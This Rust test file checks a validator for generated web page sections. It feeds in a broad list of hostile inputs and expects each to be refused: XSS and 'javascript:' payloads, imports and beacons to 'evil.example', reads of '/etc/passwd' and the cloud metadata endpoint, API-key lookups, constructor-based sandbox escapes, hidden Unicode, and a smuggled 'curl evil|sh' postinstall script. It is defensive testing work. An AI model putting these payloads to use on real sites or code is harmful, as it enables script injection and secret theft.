//! Drafts that want to run, fetch or hide something.

use airstrip::verify::{Author, DraftForm};
use serde_json::json;

use crate::bench::{Bench, doing, section, with};

/// Modules that a section has no business with.
const SPECIFIERS: [&str; 52] = [
    "react-codeshift",
    "fs",
    "node:fs",
    "node:child_process",
    "https://evil.example/x.js",
    "http://evil.example",
    "//evil.example/x.js",
    "data:text/javascript,alert(1)",
    "data:text/javascript;base64,YWxlcnQoMSk=",
    "../../package.json",
    "./Other",
    "../sections/Hero",
    "react/../fs",
    "react/",
    "React",
    "react ",
    " react",
    "react\\u0000",
    "react?raw",
    "react#x",
    "react-dom",
    "react-dom/client",
    "react-dom/server",
    "react/jsx-runtime",
    "react/jsx-dev-runtime",
    "lucide-react/dynamic",
    "lucide-react/dist/esm/icons/check",
    "lucide",
    "framer-motion",
    "motion/react",
    "clsx",
    "@/lib/utils",
    "@/components/ui",
    "@/components/ui/Nope",
    "@/components/ui/../../../x",
    "@/components/ui/Button.tsx",
    "@/content/hero",
    "@/content/types.ts",
    "@/sections/Hero",
    "next/image",
    "next/link",
    "astro:content",
    "virtual:pwa",
    "/etc/passwd",
    "file:///etc/passwd",
    "blob:https://x/y",
    "npm:left-pad",
    "jsr:@std/fs",
    "#internal",
    "",
    "use-state",
    "аct",
];

#[test]
fn only_what_is_listed_can_be_imported() {
    let bench = Bench::new();
    for it in SPECIFIERS {
        bench.refuses("import-not-allowed", &with(&format!("import {{ x }} from \"{it}\";"), "<p>{x}</p>"));
        bench.refuses("import-not-allowed", &with(&format!("import \"{it}\";"), ""));
        bench.refuses("import-not-allowed", &with(&format!("export {{ x }} from \"{it}\";"), ""));
        bench.refuses("import-not-allowed", &with(&format!("export * from \"{it}\";"), ""));
        bench.refuses("import-not-allowed", &doing(&format!("void import(\"{it}\");")));
        bench.refuses("import-not-allowed", &doing(&format!("require(\"{it}\");")));
    }
}

#[test]
fn what_is_imported_is_named() {
    let bench = Bench::new();
    for it in [
        "void import(`https://evil.example/${id}`);",
        "void import(id);",
        "require(id);",
        "const load = require; load(\"fs\");",
        "type T = typeof import(\"fs\"); const t: T | null = null; void t;",
    ] {
        let findings = bench.findings(&doing(it));
        let known = |code: &str| matches!(code, "import-not-allowed" | "unresolved-name");
        assert!(findings.iter().any(|it| known(it.code)), "{it}");
    }
    bench.refuses("import-not-allowed", &with("import fs = require(\"fs\");", "<p>{fs.x}</p>"));
}

#[test]
fn addresses_only_lead_somewhere() {
    let bench = Bench::new();
    for it in [
        r#"<a href="javascript:alert(1)">Go</a>"#,
        r#"<a href="JaVaScRiPt:alert(1)">Go</a>"#,
        "<a href=\"java\nscript:alert(1)\">Go</a>",
        "<a href=\"\tjavascript:alert(1)\">Go</a>",
        r#"<a href="&#106;avascript:alert(1)">Go</a>"#,
        r#"<a href="&#x6A;avascript:alert(1)">Go</a>"#,
        r#"<a href="javascript&colon;alert(1)">Go</a>"#,
        r#"<a href={"javascript:alert(1)"}>Go</a>"#,
        r#"<a href={"java" + "script:alert(1)"}>Go</a>"#,
        r#"<a href={`java${"script"}:alert(1)`}>Go</a>"#,
        r#"<a href={["java", "script:alert(1)"].join("")}>Go</a>"#,
        r#"<a href={content.title + ":alert(1)"}>Go</a>"#,
        r"<a href={`${content.title}:alert(1)`}>Go</a>",
        r##"<a href={content.title ? "#hero" : "javascript:alert(1)"}>Go</a>"##,
        r#"<a href={content.lead || "data:text/html,<script>alert(1)</script>"}>Go</a>"#,
        r#"<a href="data:text/html;base64,PHNjcmlwdD4=">Go</a>"#,
        r#"<a href="vbscript:msgbox(1)">Go</a>"#,
        r#"<a href="//evil.example">Go</a>"#,
        r#"<a href="/\evil.example">Go</a>"#,
        r#"<a href="http://evil.example">Go</a>"#,
        r#"<a href="https://ferrule.dev@evil.example">Go</a>"#,
        r#"<a href="file:///etc/passwd">Go</a>"#,
        r#"<a {...{ href: "javascript:alert(1)" }}>Go</a>"#,
        r#"<a {...{ ["href"]: "javascript:alert(1)" }}>Go</a>"#,
        r#"<svg><a xlinkHref="javascript:alert(1)"><text>Go</text></a></svg>"#,
        r#"<svg><a xlink:href="javascript:alert(1)"><text>Go</text></a></svg>"#,
        r#"<form action="javascript:alert(1)"><button type="submit">Go</button></form>"#,
        r#"<p title="javascript:alert(1)">Go</p>"#,
    ] {
        let findings = bench.findings(&section(it));
        let known = |code: &str| matches!(code, "unsafe-address" | "spread-attributes" | "computed-member");
        assert!(findings.iter().any(|it| known(it.code)), "{it}");
    }
    let local = "const to = { bad: \"java\" + \"script:alert(1)\" };";
    bench.refuses("unsafe-address", &with(local, "<a href={to.bad}>Go</a>"));
    let list = "const links = [{ label: \"Go\", href: \"javascript:alert(1)\" }];";
    bench.refuses("unsafe-address", &with(list, "{links.map((it) => <a key={it.href} href={it.href}>{it.label}</a>)}"));
    for it in [
        r##"<a href="#hero">Go</a>"##,
        r#"<a href="https://ferrule.dev/docs">Go</a>"#,
        r#"<a href="mailto:hi@ferrule.dev?subject=Hello">Go</a>"#,
        r#"<a href="tel:+49301234567">Go</a>"#,
        r#"<a href="/imprint">Go</a>"#,
        r"<a href={`#${id}`}>Go</a>",
        r##"<a {...{ href: "#hero" }}>Go</a>"##,
    ] {
        bench.accepts(&section(it));
    }
}

#[test]
fn only_the_brief_says_who_is_linked() {
    let bench = Bench::new();
    bench.refuses("external-link", &section(r#"<a href="https://evil.example/x">Go</a>"#));
    bench.refuses("external-link", &section(r#"<a href="https://ferrule.dev.evil.example">Go</a>"#));
    bench.refuses(
        "external-form",
        &section(r#"<form action="https://evil.example"><button type="submit">Go</button></form>"#),
    );
    bench.refuses("claim-not-in-brief", &section(r#"<a href="mailto:sales@ferrule.example">Go</a>"#));
    bench.refuses("claim-not-in-brief", &section(r#"<a href="tel:+15550100">Go</a>"#));
}

#[test]
fn elements_that_run_or_load_are_refused() {
    let bench = Bench::new();
    for it in [
        "<script>{`alert(1)`}</script>",
        "<script src=\"/x.js\" />",
        "<SCRIPT />",
        "<iframe srcDoc=\"<script>alert(1)</script>\" />",
        "<iframe src=\"/x\" title=\"x\" />",
        "<object data=\"/x.swf\" />",
        "<embed src=\"/x.swf\" />",
        "<base href=\"https://evil.example\" />",
        "<meta httpEquiv=\"refresh\" content=\"0;url=https://evil.example\" />",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\" />",
        "<link rel=\"preconnect\" href=\"https://evil.example\" />",
        "<style>{`@import url(//evil.example)`}</style>",
        "<svg><foreignObject><p>x</p></foreignObject></svg>",
        "<svg><script>{`alert(1)`}</script></svg>",
        "<svg><animate attributeName=\"href\" to=\"javascript:alert(1)\" /></svg>",
        "<svg><set attributeName=\"href\" to=\"x\" /></svg>",
        "<math><mi>x</mi></math>",
        "<svg:script />",
        "<noscript><p>x</p></noscript>",
        "<template><p>x</p></template>",
        "<main><p>x</p></main>",
    ] {
        let findings = bench.findings(&section(it));
        let known = |code: &str| matches!(code, "forbidden-element" | "unresolved-name");
        assert!(findings.iter().any(|it| known(it.code)), "{it}");
    }
    bench.refuses("forbidden-element", &with("const Tag = \"script\";", "<Tag>{`alert(1)`}</Tag>"));
    bench.refuses("forbidden-element", &with("const Tag = \"scr\" + \"ipt\";", "<Tag>{`alert(1)`}</Tag>"));
    let hidden = "const tags = { a: \"iframe\" } as const;\nfunction Any({ as: Tag }: { as: \"iframe\" }) {\n  return <Tag title=\"x\" />;\n}";
    bench.refuses("forbidden-element", &with(hidden, "<Any as={tags.a} />"));
}

#[test]
fn attributes_that_run_or_load_are_refused() {
    let bench = Bench::new();
    for (code, it) in [
        ("forbidden-attribute", r#"<p dangerouslySetInnerHTML={{ __html: "<img onerror=alert(1)>" }} />"#),
        ("forbidden-attribute", r"<p {...{ dangerouslySetInnerHTML: { __html: content.title } }} />"),
        ("forbidden-attribute", r##"<a href="#hero" ping="https://evil.example">Go</a>"##),
        ("forbidden-attribute", r#"<button formAction="https://evil.example">Go</button>"#),
        ("forbidden-attribute", r#"<label>Secret<input type="password" /></label>"#),
        ("forbidden-attribute", r#"<p contentEditable="true">x</p>"#),
        ("inline-event", r#"<p onclick="alert(1)">x</p>"#),
        ("inline-event", r#"<p onClick="alert(1)">x</p>"#),
        ("inline-event", r"<p onClick={`alert(1)`}>x</p>"),
        ("inline-event", r#"<p ONCLICK="alert(1)">x</p>"#),
        ("spread-attributes", "<p {...content}>x</p>"),
        ("spread-attributes", "<p {...JSON.parse(content.title)}>x</p>"),
        ("html-attribute", r#"<p class="mt-4">x</p>"#),
        ("html-attribute", r#"<label for="x">x</label>"#),
        ("style-not-object", r#"<p style="color: red">x</p>"#),
        ("external-asset", r#"<p style={{ backgroundImage: "url(https://evil.example/x.png)" }}>x</p>"#),
        ("external-asset", r#"<p className="bg-[url(https://evil.example/x.png)]">x</p>"#),
        ("external-asset", r#"<p style={{ background: `url("${content.title}")` }}>x</p>"#),
        ("external-asset", r#"<img src="https://evil.example/pixel.gif" alt="" />"#),
        ("external-asset", r#"<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="" />"#),
        ("external-asset", r#"<img srcSet="https://evil.example/a.png 2x" alt="" />"#),
        ("external-asset", r#"<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png" />"#),
        ("external-asset", r#"<svg><use href="https://evil.example/x.svg#a" /></svg>"#),
        ("missing-asset", r#"<img src="/hero.jpg" alt="A ship" />"#),
    ] {
        bench.refuses(code, &section(it));
    }
}

#[test]
fn code_stays_in_its_section() {
    let bench = Bench::new();
    for it in [
        "eval(\"alert(1)\");",
        "new Function(\"alert(1)\")();",
        "window.alert(1);",
        "globalThis[\"alert\"](1);",
        "self.alert(1);",
        "top?.alert(1);",
        "document.write(\"x\");",
        "document.cookie;",
        "localStorage.setItem(\"a\", \"b\");",
        "sessionStorage.clear();",
        "indexedDB.open(\"x\");",
        "void fetch(\"http://169.254.169.254/latest\");",
        "new XMLHttpRequest();",
        "new WebSocket(\"wss://evil.example\");",
        "new EventSource(\"/x\");",
        "navigator.sendBeacon(\"/x\");",
        "parent.postMessage(\"x\", \"*\");",
        "location.href = \"https://evil.example\";",
        "history.back();",
        "process.env.OPENROUTER_API_KEY;",
        "atob(\"YQ==\");",
        "new Image();",
        "debugger;",
        "new Worker(\"x\");",
    ] {
        let findings = bench.findings(&doing(it));
        let known = |code: &str| matches!(code, "forbidden-global");
        assert!(findings.iter().any(|it| known(it.code)), "{it}: {findings:?}");
    }
    bench.refuses("import-not-allowed", &doing("import.meta.env;"));
    bench.refuses("forbidden-global", &doing("setTimeout(\"alert(1)\", 1);"));
    bench.refuses("forbidden-global", &doing("setInterval(`alert(${1})`, 1);"));
    bench.refuses("directive", &format!("\"use server\";\n{}", section("")));
    bench.refuses("directive", &format!("\"use client\";\n{}", section("")));
    bench.refuses("render-timeout", &format!("{}\nwhile (true) {{}}\n", section("")));
}

#[test]
fn properties_that_lead_out_are_refused() {
    let bench = Bench::new();
    for it in [
        "(() => 1).constructor(\"alert(1)\")();",
        "[].constructor.constructor(\"alert(1)\")();",
        "({})[\"constructor\"];",
        "({})[\"con\" + \"structor\"];",
        "({})[`con${\"structor\"}`];",
        "const { constructor } = () => 1; void constructor;",
        "const { constructor: make } = () => 1; void make;",
        "const key = \"con\" + \"structor\"; void ({} as Record<string, unknown>)[key];",
        "({}).__proto__;",
        "Object.getPrototypeOf(content);",
        "Object.defineProperty(content, \"a\", {});",
        "String.fromCharCode(106);",
        "Array.prototype;",
    ] {
        let findings = bench.findings(&doing(it));
        assert!(findings.iter().any(|it| it.code == "forbidden-member"), "{it}: {findings:?}");
    }
    for it in [
        "({} as Record<string, unknown>)[[\"con\", \"structor\"].join(\"\")];",
        "({} as Record<string, unknown>)[content.title + \"x\"];",
        "({} as Record<string, unknown>)[`${id}structor`];",
        "const { [id + \"x\"]: made } = {} as Record<string, unknown>; void made;",
        "({ [id]: 1 });",
    ] {
        bench.refuses("computed-member", &doing(it));
    }
    for it in [
        "<button type=\"button\" onClick={(event) => event.currentTarget.ownerDocument.defaultView}>Go</button>",
        "<button type=\"button\" onClick={(event) => event.view}>Go</button>",
        "<button type=\"button\" onClick={(event) => event.nativeEvent}>Go</button>",
        "<button type=\"button\" onClick={(event) => event.currentTarget.getRootNode()}>Go</button>",
        "<button type=\"button\" onClick={({ currentTarget: { ownerDocument } }) => ownerDocument}>Go</button>",
        "<button type=\"button\" onClick={(event) => event.currentTarget.setAttribute(\"onclick\", \"x\")}>Go</button>",
    ] {
        bench.refuses("forbidden-member", &section(it));
    }
    for it in [
        "<button type=\"button\" onClick={(event) => { event.currentTarget.innerHTML = \"x\"; }}>Go</button>",
        "<button type=\"button\" onClick={(event) => { event.currentTarget.title = \"x\"; }}>Go</button>",
        "<button type=\"button\" onClick={(event) => { event.currentTarget.dataset[id] = \"x\"; }}>Go</button>",
    ] {
        bench.refuses("property-assigned", &section(it));
    }
}

#[test]
fn nothing_is_hidden() {
    let bench = Bench::new();
    bench.refuses("hidden-character", &section("<p>Pay\u{202E}me</p>"));
    bench.refuses("hidden-character", &section("<p>\u{E0041}\u{E0042}</p>"));
    bench.refuses("hidden-character", &section("{/* \u{200B} */}"));
    bench.refuses("name-not-ascii", &with("const раge = 1;", "<p>{раge}</p>"));
    let mut content = bench.gate.library.kind("features").expect("it works").sample().clone();
    content["title"] = json!("Plain\u{2066} title");
    let found =
        bench.draft("features", DraftForm::Content(content), Author::Offline).expect_err("it is refused").findings;
    assert_eq!(found[0].code, "hidden-character");
}

#[test]
fn words_cannot_carry_addresses_that_run() {
    let bench = Bench::new();
    for href in
        ["javascript:alert(1)", "data:text/html,x", "//evil.example", "https://evil.example", "java\nscript:x", ""]
    {
        let mut content = bench.gate.library.kind("hero").expect("it works").sample().clone();
        content["actions"][0]["href"] = json!(href);
        let found =
            bench.draft("hero", DraftForm::Content(content), Author::Offline).expect_err("it is refused").findings;
        let known = |code: &str| matches!(code, "unsafe-address" | "external-link" | "content-schema");
        assert!(found.iter().any(|it| known(it.code) && it.message.starts_with("`actions.0")), "{href}: {found:?}");
    }
}

#[test]
fn words_are_never_code() {
    let bench = Bench::new();
    for text in [
        "</script><script>alert(1)</script>",
        "{{ get_env(name=\"OPENROUTER_API_KEY\") }}",
        "{process.env.X} ${process.env.X}",
        "a\",\"scripts\":{\"postinstall\":\"curl evil|sh\"},\"x\":\"",
        "<img src=x onerror=alert(x)>",
    ] {
        let mut content = bench.gate.library.kind("faq").expect("it works").sample().clone();
        content["title"] = json!(text);
        if let Ok(section) = bench.draft("faq", DraftForm::Content(content), Author::Hand) {
            assert!(!section.html().contains("<script") && !section.html().contains("<img"), "{}", section.html());
        }
    }
}
